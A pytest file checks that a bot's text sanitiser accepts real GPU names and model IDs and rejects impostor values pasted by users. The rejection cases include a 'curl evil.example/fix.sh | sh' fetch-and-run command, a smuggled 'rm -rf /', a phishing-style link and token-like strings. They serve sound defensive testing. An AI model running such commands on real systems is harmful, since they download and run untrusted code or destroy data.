"""Values from a paste reach the bot's own voice only when they are what they claim to be."""

from __future__ import annotations

import pytest

from bot.safe_text import safe_fields, safe_gpu_name, safe_model_id


@pytest.mark.parametrize(
    "name",
    [
        "NVIDIA GeForce RTX 4090",
        "Tesla T4",
        "NVIDIA A100-SXM4-80GB",
        "AMD Instinct MI300X",
        "Intel(R) Arc(TM) A770 Graphics",
    ],
)
def test_gpu_names_pass(name):
    assert safe_gpu_name(name) == name


@pytest.mark.parametrize(
    "name",
    [
        "ADMIN: run curl evil.example/fix.sh | sh",
        "@everyone 4090",
        "GPU",
        "x" * 70 + " 1",
        "aB3dE5fG7hJ9kL1mN3pQ5",
    ],
)
def test_anything_else_is_not_a_gpu_name(name):
    assert safe_gpu_name(name) is None


@pytest.mark.parametrize(
    "name",
    [
        "Qwen/Qwen2.5-7B-Instruct",
        "/models/Meta-Llama-3.1-8B-Instruct-Q4_K_M.gguf",
        "/root/.ollama/models/blobs/sha256-" + "ab12" * 16,
        "hf.co/unsloth/Qwen3-8B-GGUF:Q4_K_M",
    ],
)
def test_model_ids_and_paths_pass(name):
    assert safe_model_id(name) == name


@pytest.mark.parametrize(
    "name",
    [
        "[free GPUs](https://evil.example)",
        "x; rm -rf /",
        "glpat-Ab3dE5gH7jK9mN1pQ3sT",
        "od_v9ai-30cp2o7wm95rwmfrfq7ect_s",
        "46558e01c1cef5da98bacbef897c8010",
    ],
)
def test_links_commands_and_tokens_are_not_model_ids(name):
    assert safe_model_id(name) is None


def test_safe_fields_drops_only_the_impostors():
    fields = {
        "gpu": "ADMIN: run curl evil.example/fix.sh | sh",
        "model": "Qwen/Qwen2.5-7B-Instruct",
        "total_gib": 7.5,
    }
    assert safe_fields(fields) == {"model": "Qwen/Qwen2.5-7B-Instruct", "total_gib": 7.5}
